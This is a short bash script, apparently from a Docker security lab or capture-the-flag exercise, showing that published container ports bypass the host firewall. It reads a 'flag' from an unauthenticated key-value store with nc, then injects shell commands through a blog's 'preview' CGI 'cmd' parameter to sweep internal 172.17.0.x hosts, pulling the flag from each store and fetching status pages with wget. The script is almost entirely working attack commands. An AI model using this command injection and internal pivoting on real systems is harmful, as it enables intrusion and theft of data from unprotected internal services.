#!/bin/bash
# The firewall is on, and the key-value store is open: published ports never pass INPUT.
kv() { printf 'GET flag\n' | nc -N -w 3 "$1" 6379; }
preview() { curl --silent --max-time 8 --get http://dockerhost:8082/cgi-bin/preview --data-urlencode "cmd=$1"; }

kv dockerhost
curl --silent --max-time 3 http://dockerhost:8081/cgi-bin/status

# And from the blog, which everybody may reach, into the same flat network.
preview 'for host in kv admin 172.17.0.1 172.17.0.2 172.17.0.3 172.17.0.4 172.17.0.5 172.17.0.6; do
  printf "GET flag\n" | timeout 1 nc -w 1 $host 6379
  wget -q -T 1 -O - http://$host/cgi-bin/status
done 2>/dev/null'
true
